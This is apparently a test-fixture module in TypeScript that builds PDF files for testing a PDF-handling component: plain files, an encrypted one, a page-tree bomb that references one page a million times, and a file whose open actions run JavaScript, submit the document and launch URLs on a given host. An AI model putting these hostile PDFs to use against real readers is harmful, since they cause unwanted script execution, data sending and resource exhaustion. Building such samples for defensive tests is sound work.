// PDF files for tests, good and hostile, written object by object. Knows no reader of them.

/** Objects from 1, the first of them the catalogue; the table of places is computed. */
function pdfOf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((body, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n` +
      `startxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

const stream = (content: string): string => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;

export interface MadePdf {
  /** What stands on each page, one line. */
  readonly pages: readonly string[];
  /** Of every page, in points. */
  readonly size?: readonly [number, number];
  /** More of the catalogue. */
  readonly catalogue?: string;
  /** How many pages the file says it has. */
  readonly says?: number;
  readonly trailer?: string;
  /** Drawn behind the words of each page. */
  readonly content?: string;
}

/** Its letters are a font that the file names and does not bring. */
export function makePdf({
  pages,
  size = [595, 842],
  catalogue = '',
  says,
  trailer,
  content = '',
}: MadePdf): Buffer {
  const first = 4;
  const kids = pages.map((_, at) => `${first + at * 2} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${says ?? pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  for (const [at, words] of pages.entries()) {
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size[0]} ${size[1]}] /Contents ${first + at * 2 + 1} 0 R ` +
        '/Resources << /Font << /F1 3 0 R >> >> >>',
      stream(`${content}\n0 0 0 rg BT /F1 24 Tf 60 ${size[1] - 100} Td (${words}) Tj ET`),
    );
  }
  return pdfOf(objects, trailer);
}

/** A page tree of two storeys that names one page a million times. */
export function endless(): Buffer {
  const times = (what: string): string => Array.from({ length: 1000 }, () => what).join(' ');
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${times('3 0 R')}] /Count 1000000 >>`,
    `<< /Type /Pages /Parent 2 0 R /Kids [${times('4 0 R')}] /Count 1000 >>`,
    '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << >> >>',
    stream('0 0 0 rg 100 100 200 200 re f'),
  ]);
}

/** Wants to run a program, ask another host, start something and send itself away, as soon as it is opened. */
export const withProgram = (words: string, host: string): Buffer =>
  makePdf({
    pages: [words],
    catalogue:
      `/OpenAction << /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("${host}/sent"\\); window.ran = 1; globalThis.ran = 1) ` +
      `/Next << /S /URI /URI (${host}/asked) >> >> ` +
      `/AA << /WC << /S /JavaScript /JS (app.launchURL\\("${host}/launched"\\)) >> >> ` +
      `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.ran = 1; app.alert\\("ran"\\)) >>] >> >>`,
  });

/** Locked with a password that nobody knows. */
export const locked = (): Buffer =>
  makePdf({
    pages: ['secret'],
    trailer:
      `/ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] ` +
      `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >>`,
  });
